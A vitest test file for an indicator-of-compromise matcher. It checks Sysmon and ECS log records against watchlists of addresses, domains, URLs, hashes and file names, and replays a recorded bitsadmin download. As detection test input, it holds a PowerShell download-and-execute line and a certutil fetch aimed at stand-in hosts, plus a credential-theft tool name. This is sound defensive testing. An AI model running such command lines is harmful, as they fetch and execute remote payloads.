import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { createRecordView } from '../record'
import { IocIndex, type WatchlistRow } from './ioc-index'

const str = (value: unknown): string => (typeof value === 'string' ? value : '')

const row = (type: string, value: string, extra: Partial<WatchlistRow> = {}): WatchlistRow => ({
  list: 'cert',
  type,
  value,
  source: 'CERT',
  valid_from: null,
  valid_until: null,
  level: null,
  ...extra,
})

const index = (rows: WatchlistRow[], matchSubdomains = true) => new IocIndex(rows, { matchSubdomains })

/** The time of the events matched, unless a test names one. */
const EVENT_TIME = Date.parse('2026-12-01T00:00:00Z')

/** What matched, as `type value @field`. */
/** When the matching runs: a week after the events (late logs, an import, a retro-hunt). */
const NOW = Date.parse('2026-12-07T00:00:00Z')

const matches = (ioc: IocIndex, record: Record<string, unknown>, at = EVENT_TIME, now = NOW): string[] =>
  ioc.match(record, at, now).map((h) => `${h.indicators[0]!.type} ${h.indicators[0]!.value} @${h.field}`)

describe('IocIndex', () => {
  it('matches addresses canonically: IPv6 compressed, IPv4-mapped folded, CIDR ranges', () => {
    const ioc = index([
      row('ip', '2001:DB8:0:0::7'),
      row('ip', '203.0.113.7'),
      row('cidr', '198.51.100.0/24'),
      row('ipv6', '2001:db8:ff::/48'),
    ])
    expect(matches(ioc, { DestinationIp: '2001:db8::7' })).toEqual(['ip 2001:db8::7 @DestinationIp'])
    expect(matches(ioc, { SourceIp: '::ffff:203.0.113.7' })).toEqual(['ip 203.0.113.7 @SourceIp'])
    expect(matches(ioc, { 'destination.ip': '198.51.100.200' })).toEqual([
      'cidr 198.51.100.0/24 @destination.ip',
    ])
    expect(matches(ioc, { destination: { ip: '2001:db8:ff:1::9' } })).toEqual([
      'cidr 2001:db8:ff::/48 @destination.ip',
    ])
    expect(matches(ioc, { DestinationIp: '198.51.101.1', SourceIp: '2001:db8::8' })).toEqual([])
  })

  it('reads addresses in Sysmon DNS answers and in host names', () => {
    const ioc = index([row('ip', '151.101.208.133')])
    expect(matches(ioc, { QueryResults: 'type:  5 github.map.fastly.net;::ffff:151.101.208.133;' })).toEqual([
      'ip 151.101.208.133 @QueryResults',
    ])
    expect(matches(ioc, { 'url.full': 'http://151.101.208.133:8080/x' })).toEqual([
      'ip 151.101.208.133 @url.full',
    ])
  })

  it('matches a domain and the names under it, unless told not to', () => {
    const rows = [row('domain', 'Evil.Example.')]
    expect(matches(index(rows), { QueryName: 'evil.example' })).toEqual(['domain evil.example @QueryName'])
    expect(matches(index(rows), { QueryName: 'a.cdn.EVIL.example.' })).toEqual([
      'domain evil.example @QueryName',
    ])
    expect(matches(index(rows), { QueryName: 'notevil.example' })).toEqual([])
    expect(matches(index(rows, false), { QueryName: 'a.cdn.evil.example' })).toEqual([])
    expect(matches(index(rows, false), { DestinationHostname: 'evil.example' })).toEqual([
      'domain evil.example @DestinationHostname',
    ])
  })

  it('finds URLs in command lines (bounded) and matches them and their hosts', () => {
    const ioc = index([row('url', 'https://evil.example/a/b.ps1'), row('domain', 'bad.example')])
    const line = `powershell -c "iex (iwr 'https://evil.example/a/b.ps1#frag')"`
    expect(matches(ioc, { CommandLine: line })).toEqual(['url https://evil.example/a/b.ps1 @CommandLine'])
    expect(matches(ioc, { CommandLine: 'certutil -urlcache -f http://x.bad.example/p.exe p.exe' })).toEqual([
      'domain bad.example @CommandLine',
    ])
    // Past the first 8 KiB, a command line is not read.
    expect(matches(ioc, { CommandLine: `${'A'.repeat(9000)} https://evil.example/a/b.ps1` })).toEqual([])
  })

  it("reads Sysmon's Hashes (never IMPHASH as an MD5) and ECS hash fields", () => {
    const imphash = 'b0a3cff8cfde112945189719f82f9ea9'
    const ioc = index([
      row('sha256', 'EAAE8536D554D0E86D8540A8B34DB2649BD884843F389495D0B6E91636C6CF54'),
      row('md5', imphash),
      row('sha1', 'da39a3ee5e6b4b0d3255bfef95601890afd80709'),
    ])
    const hashes =
      'SHA1=282DA9EE622F01CC63352E53FDC3D4A75CEEB6FD,MD5=A23A7A6B6F8E1A5D913EA119F5F2ED1A,' +
      `SHA256=EAAE8536D554D0E86D8540A8B34DB2649BD884843F389495D0B6E91636C6CF54,IMPHASH=${imphash.toUpperCase()}`
    expect(matches(ioc, { Hashes: hashes })).toEqual([
      'sha256 eaae8536d554d0e86d8540a8b34db2649bd884843f389495d0b6e91636c6cf54 @Hashes',
    ])
    expect(matches(ioc, { file: { hash: { sha1: 'DA39A3EE5E6B4B0D3255BFEF95601890AFD80709' } } })).toEqual([
      'sha1 da39a3ee5e6b4b0d3255bfef95601890afd80709 @file.hash.sha1',
    ])
  })

  it('matches e-mail addresses and file names, case-insensitively', () => {
    const ioc = index([row('email', 'Phish@Evil.example'), row('filename', 'mimikatz.exe')])
    expect(matches(ioc, { 'email.from.address': 'phish@evil.EXAMPLE' })).toEqual([
      'email phish@evil.example @email.from.address',
    ])
    expect(matches(ioc, { Image: 'C:\\Users\\bob\\Downloads\\MimiKatz.EXE' })).toEqual([
      'filename mimikatz.exe @Image',
    ])
  })

  it("judges valid_until at the event's time (exclusive) and valid_from at the time of matching (inclusive)", () => {
    const from = Date.parse('2026-12-01T00:00:00Z')
    const until = Date.parse('2026-12-02T00:00:00Z')
    const ioc = index([
      row('ip', '203.0.113.1', { valid_from: '2026-12-01T00:00:00Z', valid_until: '2026-12-02T00:00:00Z' }),
      row('ip', '203.0.113.2', { valid_until: '2026-11-30T00:00:00Z' }),
    ])
    // Expired long ago, it is still held: a late log from before its expiry matches it.
    expect(ioc.size).toBe(2)
    const at = (ts: number, now = NOW) => matches(ioc, { DestinationIp: '203.0.113.1' }, ts, now)
    expect(at(until - 1)).toEqual(['ip 203.0.113.1 @DestinationIp'])
    expect(at(until)).toEqual([])
    // Once valid, it matches events from before its valid_from too (a feed publishes late).
    expect(at(from - 86_400_000)).toEqual(['ip 203.0.113.1 @DestinationIp'])
    // Before its valid_from has come, nothing matches it, whatever the event's time.
    expect(at(from, from - 1)).toEqual([])
    expect(at(from - 1, from)).toEqual(['ip 203.0.113.1 @DestinationIp'])
    expect(matches(ioc, { DestinationIp: '203.0.113.2' }, Date.parse('2026-11-29T23:59:59Z'))).toEqual([
      'ip 203.0.113.2 @DestinationIp',
    ])
    expect(matches(ioc, { DestinationIp: '203.0.113.2' }, Date.parse('2026-11-30T00:00:00Z'))).toEqual([])
  })

  it('names only the lists whose indicator is valid, with the key its hits are counted by', () => {
    const ioc = index([
      row('domain', 'evil.example', { valid_from: '2027-01-01T00:00:00Z' }),
      row('domain', 'evil.example', { list: 'taxii:partner', source: 'indicator--1' }),
    ])
    const hits = ioc.match({ QueryName: 'evil.example' }, EVENT_TIME, NOW)
    expect(hits.map((h) => h.indicators.map((i) => i.list))).toEqual([['taxii:partner']])
    expect(hits[0]!.indicators[0]!.key).toBe('taxii:partner\u0000domain\u0000evil.example')
    expect(
      ioc
        .match({ QueryName: 'evil.example' }, EVENT_TIME, Date.parse('2027-01-01T00:00:00Z'))[0]!
        .indicators.map((i) => i.list),
    ).toEqual(['cert', 'taxii:partner'])
  })

  it('adds, edits and removes one indicator without a reload', () => {
    const ioc = index([row('ip', '203.0.113.1')])
    // Nothing reads hash or CIDR fields yet: an added one is found at once all the same.
    expect(ioc.upsert(row('sha256', 'A'.repeat(64), { list: 'analyst' }), true)).toBe('added')
    expect(matches(ioc, { Hashes: `SHA256=${'a'.repeat(64)}` })).toEqual([`sha256 ${'a'.repeat(64)} @Hashes`])
    expect(ioc.upsert(row('cidr', '198.51.100.0/24', { list: 'analyst' }), true)).toBe('added')
    expect(matches(ioc, { DestinationIp: '198.51.100.9' })).toEqual(['cidr 198.51.100.0/24 @DestinationIp'])
    expect(ioc.size).toBe(3)

    // An edit replaces the list's indicator: its level and validity.
    expect(
      ioc.upsert(
        row('cidr', '198.51.100.0/24', {
          list: 'analyst',
          level: 'critical',
          valid_until: '2026-11-01T00:00:00Z',
        }),
        true,
      ),
    ).toBe('replaced')
    expect(ioc.size).toBe(3)
    expect(matches(ioc, { DestinationIp: '198.51.100.9' })).toEqual([])
    expect(
      ioc.match({ DestinationIp: '198.51.100.9' }, Date.parse('2026-10-01T00:00:00Z'))[0]!.indicators[0]!
        .level,
    ).toBe('critical')

    // Removed: gone, other lists' indicators of other values untouched; a second removal finds nothing.
    expect(ioc.remove('analyst', 'cidr', '198.51.100.0/24')).toBe(true)
    expect(ioc.remove('analyst', 'cidr', '198.51.100.0/24')).toBe(false)
    expect(ioc.remove('cert', 'sha256', 'a'.repeat(64))).toBe(false)
    expect(matches(ioc, { DestinationIp: '198.51.100.9' }, Date.parse('2026-10-01T00:00:00Z'))).toEqual([])
    // take: the removed indicator, with the key its hits are counted by (its row's, as listed).
    expect(ioc.take('analyst', 'sha256', 'A'.repeat(64))?.key).toBe(
      `analyst\u0000sha256\u0000${'A'.repeat(64)}`,
    )
    expect(matches(ioc, { Hashes: `SHA256=${'a'.repeat(64)}` })).toEqual([])
    expect(matches(ioc, { DestinationIp: '203.0.113.1' })).toEqual(['ip 203.0.113.1 @DestinationIp'])
    expect(ioc.size).toBe(1)
    expect(ioc.upsert(row('ip', 'nope', { list: 'analyst' }), true)).toBeNull()
  })

  it("replaces one list's indicators, leaving the other lists as held", () => {
    const feed = (rows: WatchlistRow[]) =>
      rows.map((r) => ({ ...r, list: 'taxii:feed', source: 'indicator--1' }))
    const ioc = index([
      row('ip', '203.0.113.1'),
      row('cidr', '10.0.0.0/8'),
      ...feed([row('ip', '203.0.113.1'), row('cidr', '192.168.0.0/16'), row('md5', 'nope')]),
    ])
    expect([ioc.size, ioc.rejected]).toEqual([4, 1])
    ioc.replaceList('taxii:feed', feed([row('domain', 'evil.example'), row('sha1', 'short')]))
    expect([ioc.size, ioc.rejected]).toEqual([3, 1])
    expect(ioc.match({ DestinationIp: '203.0.113.1' }, EVENT_TIME)[0]!.indicators.map((i) => i.list)).toEqual(
      ['cert'],
    )
    expect(matches(ioc, { DestinationIp: '192.168.1.1' })).toEqual([])
    expect(matches(ioc, { DestinationIp: '10.1.2.3' })).toEqual(['cidr 10.0.0.0/8 @DestinationIp'])
    expect(matches(ioc, { QueryName: 'www.evil.example' })).toEqual(['domain evil.example @QueryName'])
    // Emptied: nothing of it is left.
    ioc.replaceList('taxii:feed', [])
    expect([ioc.size, ioc.rejected]).toEqual([2, 0])
    expect(matches(ioc, { QueryName: 'www.evil.example' })).toEqual([])
  })

  it('names one hit per indicator value per event, with every list holding it', () => {
    const ioc = index([
      row('ip', '203.0.113.9'),
      row('ip', '203.0.113.9', { list: 'taxii:partner', source: 'indicator--1' }),
      // The team core's TAXII source, pulled by sync.
      row('ip', '203.0.113.9', { list: 'taxii/isac', source: 'indicator--2' }),
    ])
    const hits = ioc.match({ SourceIp: '203.0.113.9', DestinationIp: '203.0.113.9' }, EVENT_TIME)
    expect(hits).toHaveLength(1)
    expect(hits[0]!.indicators.map((i) => [i.list, i.source, i.stix_id])).toEqual([
      ['cert', 'CERT', null],
      ['taxii:partner', 'partner', 'indicator--1'],
      ['taxii/isac', 'isac', 'indicator--2'],
    ])
  })

  it('counts values that are no indicator instead of holding them', () => {
    const ioc = index([
      row('ip', 'not-an-ip'),
      row('md5', 'abc'),
      row('url', 'no url'),
      row('ip', '10.0.0.1'),
    ])
    expect([ioc.size, ioc.rejected]).toEqual([1, 3])
  })
})

describe('IocIndex on a real recording (OTRF, bitsadmin downloading a script)', () => {
  const file = join(__dirname, '../../../../shared/datasets/otrf/cmd_bitsadmin_download_psh_script.ndjson')
  const lines = readFileSync(file, 'utf8')
    .split('\n')
    .filter((l) => l.trim() !== '')
  const view = createRecordView([])
  const records = lines.map((l) => view(JSON.parse(l) as Record<string, unknown>))
  const bitsadmin = records.find((r) => r.EventID === 1 && str(r.Image).endsWith('bitsadmin.exe'))!
  const sha256 = /SHA256=([0-9A-F]{64})/.exec(str(bitsadmin.Hashes))![1]!
  const imphash = /IMPHASH=([0-9A-F]{32})/.exec(str(bitsadmin.Hashes))![1]!

  const hitsOf = (rows: WatchlistRow[]) => {
    const ioc = index(rows)
    return records.map((r) => ioc.match(r, EVENT_TIME))
  }

  it('finds the download domain where Sysmon names it: the command line, DNS queries', () => {
    const hits = hitsOf([row('domain', 'githubusercontent.com')])
    const named = records.filter(
      (r) =>
        str(r.QueryName).endsWith('githubusercontent.com') ||
        /https:\/\/[\w.]*githubusercontent\.com\//.test(str(r.CommandLine)) ||
        /https:\/\/[\w.]*githubusercontent\.com\//.test(str(r.ParentCommandLine)),
    )
    expect(named.length).toBeGreaterThan(0)
    expect(hits.filter((h) => h.length > 0)).toHaveLength(named.length)
    const fields = new Set(hits.flat().map((h) => h.field))
    expect(fields).toContain('QueryName')
    expect(fields).toContain('CommandLine')
    for (const field of fields) expect(['QueryName', 'CommandLine', 'ParentCommandLine']).toContain(field)
  })

  it("finds the CDN's address in DNS answers and connections", () => {
    const hits = hitsOf([row('ip', '151.101.208.133')])
    const expected = records.filter((r) =>
      ['DestinationIp', 'SourceIp', 'QueryResults', 'DestAddress', 'SourceAddress'].some((f) =>
        str(r[f]).includes('151.101.208.133'),
      ),
    )
    expect(expected.length).toBeGreaterThan(1)
    expect(hits.filter((h) => h.length > 0)).toHaveLength(expected.length)
  })

  it("finds bitsadmin's SHA-256, and no event for its IMPHASH listed as an MD5", () => {
    const hits = hitsOf([row('sha256', sha256), row('md5', imphash)])
    const withHash = records.filter((r) => str(r.Hashes).includes(`SHA256=${sha256}`))
    expect(hits.flat().map((h) => h.indicators[0]!.type)).toEqual(withHash.map(() => 'sha256'))
  })

  it('matches nothing when nothing listed is there', () => {
    const hits = hitsOf([row('domain', 'evil.example'), row('ip', '203.0.113.7'), row('md5', 'a'.repeat(32))])
    expect(hits.flat()).toEqual([])
  })
})
